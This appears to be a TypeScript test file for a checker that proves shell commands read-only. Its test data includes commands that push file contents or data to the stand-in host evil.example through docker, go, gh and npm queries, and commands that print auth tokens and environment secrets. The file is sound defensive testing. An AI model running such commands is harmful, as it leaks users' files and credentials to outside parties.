import assert from 'node:assert/strict';
import { analyse } from '../../../../src/shell/analyse';
import { proveReadOnly } from '../../../../src/shell/proof/readOnlyProof';

function isProven(script: string): boolean {
  return proveReadOnly(analyse(script, 'bash', { cwd: '/home/u/p', home: '/home/u' })).proven;
}

const WRITING = ['cargo tree --offline', 'cargo pkgid --offline', 'cargo metadata --offline --no-deps'];

describe('a command that asks a place named by the call or the project', () => {
  const sending = [
    ...[
      'docker manifest inspect evil.example/DATA',
      'docker search evil.example/DATA',
      'podman search x',
      'nerdctl search x',
    ],
    ...[
      'go list -m evil.example/DATA@latest',
      'go list ./...',
      'go mod graph',
      'go mod why x',
      'go doc evil.example/x',
    ],
    ...[
      'aws s3 ls s3://x/DATA',
      'aws s3api head-object --bucket x --key DATA',
      'aws sqs get-queue-attributes --queue-url https://x/y',
    ],
    ...[
      'aws sns get-topic-attributes --topic-arn arn:aws:sns:us-east-1:1:x',
      'gsutil ls gs://x',
      'gsutil stat gs://x/DATA',
    ],
    ...['gcloud storage buckets describe gs://x', 'gh repo view evil.example/x/y', 'gh pr list -R evil.example/x/y'],
    ...[
      'gh issue view 1 --repo o/r',
      'gh api repos/o/r/pulls',
      'gh api orgs/x',
      'gh api -X GET search/code -f q="$(cat f)"',
    ],
    ...['gh repo list someone', 'gh pr view https://evil.example/o/r/pull/1', 'glab mr list -R http://evil.example/x'],
    ...['pip list -o -f http://host/x', 'npm view "$(cat f)"', 'npm search $x', 'gh search code "$(cat f)"'],
    ...['cargo tree --locked', 'cargo metadata --locked', 'cargo info x', 'poetry show -l', 'poetry show --outdated'],
    ...['helm template .', 'glab mr list', 'glab issue view 1', 'glab ci status'],
  ];
  for (const script of sending) {
    it(`is not proven: ${script}`, () => {
      assert.equal(isProven(script), false);
    });
  }

  for (const script of WRITING) {
    it(`nor one that may write Cargo.lock: ${script}`, () => {
      assert.equal(isProven(script), false);
    });
  }

  const printing = [
    ...[
      'pnpm config get //host/:_authToken',
      'npm config get _authToken',
      'npm get //r/:_password',
      'pnpm config get keyfile',
    ],
    ...[
      'docker-compose config --no-interpolate',
      'docker compose config',
      'docker inspect web',
      'docker inspect -f {{.Config.Env}} x',
    ],
    ...['docker inspect --format "{{json .Config}}" x', 'docker image inspect x', 'podman inspect x'],
    ...[
      'aws ecs describe-task-definition --task-definition x',
      'aws ecs describe-tasks --tasks x',
      'aws lambda list-functions',
    ],
    ...['aws ec2 describe-launch-template-versions', 'gcloud run services describe x', 'gcloud functions describe x'],
    ...[
      'gcloud run services list --format=json',
      'terraform fmt -check -diff',
      'terraform output',
      'terraform state list',
    ],
    ...['terraform workspace list', 'terraform providers', 'pip freeze'],
    ...['micromamba list -p ./env', 'conda list --prefix=./env', 'mamba list -n ../../p/env', 'conda list -n $X'],
    ...[
      'systemctl show docker',
      'systemctl show x -p Environment',
      'systemctl cat x',
      'systemctl show x --property=ExecStart',
    ],
    ...[
      'docker history x',
      'podman image history x',
      'kubectl describe pod x',
      'kubectl get pod x -o yaml',
      'az vm list',
    ],
  ];
  for (const script of printing) {
    it(`nor one that may print secrets or start what the project names: ${script}`, () => {
      assert.equal(isProven(script), false);
    });
  }

  const reading = [
    ...[
      'gh pr list',
      'gh pr view 12',
      'gh pr list --author @me --limit 5',
      'gh run view 12 --log-failed',
      'gh issue list',
    ],
    ...['gh api repos/{owner}/{repo}/pulls', 'gh api user', 'npm view lodash', 'npm ls', 'npm config get prefix'],
    ...[
      'aws sts get-caller-identity',
      'aws s3 ls',
      'aws ec2 describe-instances',
      'gcloud projects list',
      'docker ps -a',
    ],
    ...[
      'docker inspect -f "{{.State.Status}}" x',
      'docker images',
      'kubectl get pods',
      'cargo tree --locked --offline',
    ],
    ...['cargo metadata --frozen', 'conda list -n base', 'poetry show --tree', 'systemctl show ssh -p ActiveState'],
    ...[
      'terraform version',
      'terraform fmt -check',
      'pip list',
      'pip freeze --exclude-editable',
      'go version',
      'go env GOPATH',
    ],
  ];
  for (const script of reading) {
    it(`but one that asks what the user configured is: ${script}`, () => {
      assert.equal(isProven(script), true);
    });
  }
});
